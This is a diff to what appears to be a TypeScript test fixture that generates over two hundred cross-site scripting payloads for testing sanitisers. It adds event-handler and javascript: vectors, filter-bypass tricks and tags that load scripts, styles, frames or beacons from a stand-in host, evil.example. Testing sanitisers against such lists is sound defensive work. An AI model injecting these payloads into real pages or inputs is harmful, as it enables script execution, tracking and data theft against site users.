@@ -1,5 +1,7 @@
-/** What runs where a vector works: it leaves its mark on the page. */
-const deed = 'window.hacked=1'
+/** What runs where a vector works: it leaves its mark on the page. Short, so that a vector fits into a name. */
+const deed = 'hacked=1'
+/** No page has business there. */
+const elsewhere = '//evil.example/x'
 const schemes = [
   'javascript:',
   'JaVaScRiPt:',
@@ -54,13 +56,33 @@ const linked = [
 
 const byHandler = handled.flatMap((start) => quotes.map((quote) => `<${start}=${quote}${deed}${quote}>`))
 const byLink = schemes.flatMap((scheme) => linked.map((start) => `<${start}="${scheme}${deed}">x</a>`))
+const opened = ['alert(1)', 'confirm(1)', 'prompt(1)'].flatMap((call) => [
+  `<script>${call}</script>`,
+  `<img src=x onerror=${call}>`,
+  `javascript:${call}`,
+])
+const fetched = [
+  `<img src=${elsewhere}.png>`,
+  `![x](${elsewhere}.png)`,
+  `<link rel=stylesheet href=${elsewhere}.css>`,
+  `<style>@import '${elsewhere}.css'</style>`,
+  `<p style="background:url(${elsewhere})">`,
+  `<audio autoplay src=${elsewhere}>`,
+  `<script src=${elsewhere}.js></script>`,
+  `<iframe src=${elsewhere}></iframe>`,
+  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
+  `<a href=${elsewhere} ping=${elsewhere}>x</a>`,
+  `<form action=${elsewhere}><button autofocus>x</button></form>`,
+]
 const bare = schemes.flatMap((scheme) => [`${scheme}${deed}`, `[x](${scheme}${deed})`])
 
-/** Texts that run a script where a page believes them: more than two hundred. */
+/** Texts that run a script, or fetch from elsewhere, where a page believes them: more than two hundred. */
 export const xssVectors: readonly string[] = [
   ...byHandler,
   ...byLink,
   ...bare,
+  ...opened,
+  ...fetched,
   `<script>${deed}</script>`,
   `<SCRIPT SRC=data:,${deed}></SCRIPT>`,
   `<scr<script>ipt>${deed}</scr</script>ipt>`,
@@ -85,6 +107,11 @@ export const xssVectors: readonly string[] = [
   `<a href="&#106;avascript:${deed}">x</a>`,
   `<x contenteditable onblur=${deed}>`,
   `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/>`,
+]
+
+/** The same for a field of at most `length` characters: what is longer is cut, which leaves its tag open. */
+export const vectorsWithin = (length: number): string[] => [
+  ...new Set(xssVectors.map((vector) => vector.slice(0, length).trim())),
 ]
 
 /** Lines joined into texts of at most `length` characters. */
